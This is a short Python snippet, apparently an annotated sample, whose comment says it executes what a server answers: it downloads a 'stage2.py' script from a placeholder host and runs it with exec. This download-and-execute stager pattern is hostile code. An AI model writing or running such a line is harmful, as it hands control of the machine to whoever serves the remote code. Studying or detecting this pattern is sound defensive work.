# why: executes what a server answers
from urllib.request import urlopen
exec(urlopen("http://example.invalid/stage2.py").read())
